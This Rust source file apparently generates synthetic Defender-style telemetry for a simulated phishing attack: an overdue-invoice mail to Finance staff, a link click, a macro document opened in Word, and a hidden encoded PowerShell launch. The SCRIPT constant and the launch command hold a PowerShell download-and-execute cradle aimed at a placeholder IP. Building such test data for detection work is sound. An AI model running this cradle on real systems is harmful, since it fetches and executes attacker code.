//! Mail, click, document, macro.

use super::{DOCUMENT, DOWNLOADS, SENDER_DOMAIN, SENDER_IP, Story};
use crate::sample::SampleError;
use crate::sample::cell::Cell;
use crate::sample::clock::Ticks;
use crate::sample::draw::encoded_command;
use crate::sample::process::Process;
use crate::sample::topic::Topic;

const URL: &str = "https://files.harborline-freight.example/d/HL-20417?r=9c41";
const SUBJECT: &str = "Overdue invoice HL-20417 – action required today";
const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a/stage.ps1')";

/// Ends with the PowerShell that the document starts.
pub(super) fn tell<'w>(story: &mut Story<'w>) -> Result<Process<'w>, SampleError> {
    mails(story)?;
    click(story)?;
    open(story)
}

/// The `NetworkMessageId` and all else that the copy of the mail to one person has.
fn mail(story: &mut Story<'_>, number: u64) -> Topic {
    let mut topic = Topic::draw(&mut story.scene.dice, number, &[""], SENDER_DOMAIN);
    topic.subject = Cell::text(SUBJECT);
    topic
}

fn mails(story: &mut Story<'_>) -> Result<(), SampleError> {
    let sender = format!("billing@{SENDER_DOMAIN}");
    let people = &story.world.company.people;
    let topics: Vec<Topic> = (0..4).map(|number| mail(story, number)).collect();
    for (at, topic) in topics.iter().enumerate() {
        let person = &people[at * 6]; // all of Finance
        let time = story.at(0.02 * at as f64);
        story.scene.topic = topic.clone();
        story.file("HL-20417.pdf");
        let to = [
            ("SenderFromAddress", Cell::text(&sender)),
            ("SenderDisplayName", Cell::text("Harborline Freight Billing")),
            ("RecipientEmailAddress", person.mail.clone()),
            ("RecipientObjectId", person.account.object_id.clone()),
        ];
        let mut columns = to.to_vec();
        columns.extend([
            ("EmailDirection", Cell::text("Inbound")),
            ("SenderMailFromAddress", Cell::text(&sender)),
            ("SenderMailFromDomain", Cell::text(SENDER_DOMAIN)),
            ("SenderFromDomain", Cell::text(SENDER_DOMAIN)),
            ("SenderIPv4", Cell::text(SENDER_IP)),
            ("RecipientDomain", Cell::text("larkspur.example")),
            ("Subject", topic.subject.clone()),
            ("DeliveryAction", Cell::text("Delivered")),
            ("DeliveryLocation", Cell::text("Inbox/folder")),
            ("AttachmentCount", Cell::json(1)),
            ("UrlCount", Cell::json(1)),
            ("EmailLanguage", Cell::text("en")),
            ("IsFirstContact", Cell::json(true)),
            (
                "AuthenticationDetails",
                Cell::text(r#"{"SPF":"softfail","DKIM":"none","DMARC":"fail","CompAuth":"fail"}"#),
            ),
        ]);
        story.row("EmailEvents", time, &columns)?;
        let url = [
            ("Url", Cell::text(URL)),
            ("UrlDomain", Cell::text("files.harborline-freight.example")),
            ("UrlLocation", Cell::text("Body")),
        ];
        story.row("EmailUrlInfo", time, &url)?;
        let mut attachment = to.to_vec();
        attachment.extend([
            ("FileName", Cell::text("HL-20417.pdf")),
            ("FileType", Cell::text("pdf")),
            ("FileExtension", Cell::text(".pdf")),
        ]);
        story.row("EmailAttachmentInfo", time, &attachment)?;
        let zap = [
            ("Action", Cell::text("Moved to quarantine")),
            ("ActionType", Cell::text("Phish ZAP")),
            ("ActionTrigger", Cell::text("SpecialAction")),
            ("RecipientEmailAddress", person.mail.clone()),
            ("DeliveryLocation", Cell::text("Quarantine")),
            ("ThreatTypes", Cell::text("Phish")),
            ("DetectionMethods", Cell::text(r#"{"Phish":["URL malicious reputation"]}"#)),
            ("SenderFromAddress", Cell::text(&sender)),
            ("EmailDirection", Cell::text("Inbound")),
        ];
        let late = story.at(538.0 + 0.1 * at as f64);
        story.row("EmailPostDeliveryEvents", late, &zap)?;
    }
    story.facts.sender = sender;
    story.facts.url = URL.to_owned();
    story.scene.topic = topics[0].clone();
    story.facts.network_message_id = topics[0].id.as_text();
    let time = story.start;
    story.step(time, "T1566.002", format!("a mail with a link from {SENDER_DOMAIN} reaches four people of Finance"));
    Ok(())
}

fn click(story: &mut Story<'_>) -> Result<(), SampleError> {
    let (victim, person) = (story.victim, story.person);
    let time = story.at(11.4);
    story.step(time, "T1204.001", "mira.okafor follows the link");
    let id = story.scene.topic.id.clone();
    let click = [
        ("Url", Cell::text(URL)),
        ("ActionType", Cell::text("ClickAllowed")),
        ("AccountUpn", person.account.upn.clone()),
        ("Workload", Cell::text("Email")),
        ("NetworkMessageId", id),
        ("IPAddress", Cell::text("192.0.2.17")),
        ("IsClickedThrough", Cell::json(false)),
        ("UrlChain", Cell::text(format!("[\"{URL}\"]"))),
        ("AppName", Cell::text("Mail")),
    ];
    story.row("UrlClickEvents", time, &click)?;
    let edge = story.running("msedge.exe", victim, Some(person))?;
    story.on(victim, &edge);
    let connection = connection("files.harborline-freight.example", SENDER_IP, 443, &mut story.scene.dice);
    let time = story.at(11.5);
    story.row("DeviceNetworkEvents", time, &connection)?;
    story.file(DOCUMENT);
    let time = story.at(11.7);
    let download = [
        ("ActionType", Cell::text("FileCreated")),
        ("FileName", Cell::text(DOCUMENT)),
        ("FolderPath", Cell::text(format!("{DOWNLOADS}\\{DOCUMENT}"))),
        ("FileOriginUrl", Cell::text(URL)),
        ("FileOriginReferrerUrl", Cell::text("https://outlook.office.com/")),
        ("FileOriginIP", Cell::text(SENDER_IP)),
        ("PreviousFileName", Cell::text("")),
        ("PreviousFolderPath", Cell::text("")),
        ("RequestProtocol", Cell::text("Local")),
        ("AdditionalFields", Cell::text(r#"{"FileType":"OfficeOpenXml"}"#)),
    ];
    story.row("DeviceFileEvents", time, &download)
}

/// The columns of an outgoing connection that worked.
pub(super) fn connection(
    name: &str,
    ip: &str,
    port: u16,
    dice: &mut crate::sample::dice::Dice,
) -> [(&'static str, Cell); 7] {
    let private = ip.starts_with("10.");
    [
        ("ActionType", Cell::text("ConnectionSuccess")),
        ("RemoteUrl", if name.is_empty() { Cell::null() } else { Cell::text(name) }),
        ("RemoteIP", Cell::text(ip)),
        ("RemotePort", Cell::json(port)),
        ("RemoteIPType", Cell::text(if private { "Private" } else { "Public" })),
        ("Protocol", Cell::text("Tcp")),
        ("LocalPort", Cell::json(dice.between(49_152, 65_000))),
    ]
}

fn open<'w>(story: &mut Story<'w>) -> Result<Process<'w>, SampleError> {
    let (victim, person) = (story.victim, story.person);
    let explorer = story.running("explorer.exe", victim, Some(person))?;
    let time = story.at(13.0);
    story.step(time, "T1204.002", format!("{DOCUMENT} is opened in Word and its macro runs"));
    let command = format!(
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"{DOWNLOADS}\\{DOCUMENT}\" /o \"\""
    );
    let word = story.start(victim, &explorer, "WINWORD.EXE", &command, time, |_| {})?;
    story.on(victim, &word);
    story.file("VBE7.DLL");
    let library = [
        ("FileName", Cell::text("VBE7.DLL")),
        (
            "FolderPath",
            Cell::text(concat!(
                "C:\\Program Files\\Microsoft Office\\root\\vfs\\ProgramFilesCommonX64",
                "\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL"
            )),
        ),
    ];
    let time = story.at(13.1);
    story.row("DeviceImageLoadEvents", time, &library)?;
    let time = story.at(13.3);
    story.step(time, "T1059.001", "Word starts an encoded PowerShell, which fetches a script");
    let command = format!(
        "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand {}",
        encoded_command(SCRIPT)
    );
    let shell = story.start(victim, &word, "powershell.exe", &command, time, |_| {})?;
    story.facts.script = SCRIPT.to_owned();
    story.on(victim, &shell);
    let command = Cell::text(serde_json::json!({ "Command": SCRIPT }).to_string());
    story.row(
        "DeviceEvents",
        time.plus(Ticks::seconds(1)),
        &[("ActionType", Cell::text("PowerShellCommand")), ("AdditionalFields", command)],
    )?;
    let connection = connection("http://203.0.113.66/a/stage.ps1", super::CONTROL_IP, 80, &mut story.scene.dice);
    story.row("DeviceNetworkEvents", time.plus(Ticks::seconds(2)), &connection)?;
    Ok(shell)
}
